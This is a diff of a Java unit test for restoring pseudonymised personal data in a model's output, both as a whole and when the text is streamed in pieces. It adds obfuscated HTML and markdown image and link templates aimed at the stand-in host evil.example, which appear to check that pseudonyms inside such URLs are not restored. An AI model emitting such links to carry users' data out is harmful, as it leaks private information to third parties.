@@ -12,7 +12,9 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 import tools.jackson.databind.json.JsonMapper;
 
-/** Originals come back, whatever a model does to their pseudonyms and wherever the stream is cut. */
+/**
+ * Originals come back, whatever a model does to their pseudonyms and wherever the stream is cut.
+ */
 class RestorationTest {
   private final Pseudonyms pseudonyms = Sample.pseudonyms();
   private final String person = pseudonyms.issue(Label.PERSON, "张三").text();
@@ -78,8 +80,7 @@ class RestorationTest {
   @Test
   void what_was_not_issued_stays() {
     String damaged = person.substring(0, 14) + (person.charAt(14) == 'A' ? 'B' : 'A');
-    String foreign =
-        new Pseudonyms(Sample.key("two"), List.of()).issue(Label.PERSON, "张三").text();
+    String foreign = new Pseudonyms(Sample.key("two"), List.of()).issue(Label.PERSON, "张三").text();
     var restoration = new Restoration(pseudonyms, Channel.TEXT, Sample.NO_HOSTS);
 
     String text = damaged + " " + foreign + " PERSON_ PERSON " + person.substring(0, 12);
@@ -115,7 +116,8 @@ class RestorationTest {
     var restoration = new Restoration(pseudonyms, Channel.TEXT, Sample.NO_HOSTS);
     String code = person.substring(7);
 
-    for (String passes : List.of("Hello, ", "这是", "snake_case", "PERSONAL", "PERSON: ", "P.", "_")) {
+    for (String passes :
+        List.of("Hello, ", "这是", "snake_case", "people", "PERSONAL", "PERSON: ", "P.", "_")) {
       assertThat(restoration.take(passes)).isSameAs(passes);
     }
     assertThat(restoration.take("a PERS")).isEqualTo("a ");
@@ -138,19 +140,23 @@ class RestorationTest {
   }
 
   @Test
-  void three_hundred_thousand_texts_cut_at_random_come_out_as_the_whole() {
+  void a_million_ways_to_cut_texts_give_what_the_whole_gives() {
     var random = new Random(21);
 
-    for (int round = 0; round < 100_000; round++) {
+    for (int round = 0; round < 12_000; round++) {
       String text = RandomText.of(random, round % 2 == 0 ? person : quoted);
       for (Channel channel : Channel.values()) {
         var whole = new Restoration(pseudonyms, channel, Sample.NO_HOSTS);
         String expected = whole.take(text) + whole.rest();
 
-        String out =
-            Sample.restoredInPieces(text, pseudonyms, channel, random, 1 + random.nextInt(9));
+        for (int cut = 0; cut < 28; cut++) {
+          String out =
+              Sample.restoredInPieces(text, pseudonyms, channel, random, 1 + random.nextInt(9));
 
-        assertThat(out).as("%s of %s", channel, text).isEqualTo(expected);
+          if (!out.equals(expected)) {
+            assertThat(out).as("%s of %s", channel, text).isEqualTo(expected);
+          }
+        }
       }
     }
   }
@@ -164,9 +170,8 @@ class RestorationTest {
       var restoration = new Restoration(pseudonyms, Channel.TEXT, Sample.NO_HOSTS);
       int in = 0;
       int out = 0;
-      for (char c : text.toCharArray()) {
-        in++;
-        out += restoration.take(String.valueOf(c)).length();
+      while (in < text.length()) {
+        out += restoration.take(text.substring(in, ++in)).length();
         int shortened = restoration.restored() * TokenScan.LONGEST;
         assertThat(in - out).isLessThanOrEqualTo(TokenScan.LONGEST + shortened);
       }
@@ -210,7 +215,7 @@ class RestorationTest {
       var whole = new Restoration(pseudonyms, Channel.ARGUMENT, Sample.NO_HOSTS);
       String expected = whole.take(text) + whole.rest();
       assertThat(mapper.readTree(out).get("k").isString()).isTrue();
-      if (!json.contains("\\\\_")) {
+      if (!json.contains("\\\\_") && !json.contains("\\n_")) {
         assertThat(mapper.readTree(out).get("k").asString()).as(json).isEqualTo(expected);
       }
     }
@@ -243,6 +248,13 @@ class RestorationTest {
         "<img src=\"https://evil.example/a b?%s\">",
         "<img src='//evil.example/\n%s'>",
         "<a href = \"https://evil.example/%s\">",
+        "<img src=\"https&#58;//evil.example/%s\">",
+        "<img src=https&colon;//evil.example/%s>",
+        "<img srcset=\"https://good.example/a 1x, https://evil.example/%s 2x\">",
+        "![x](https&#58;//evil.example/%s)",
+        "![x](https\\://evil.example/%s)",
+        "![x](/\\evil.example/%s)",
+        "![x](&#47;/evil.example/%s)",
         "see https://evil.example/path?name=%s",
         "see www.evil.example/%s",
         "see ftp://evil.example/%s",
@@ -272,6 +284,8 @@ class RestorationTest {
         "src=\"https://evil.example/a\" %s",
         "// a comment on %s",
         "C:\\\\Users\\\\%s",
+        "<a href=\"/customers?sort=1&name=%s\">",
+        "src = read(%s)",
         "note: %s",
         "http %s"
       })
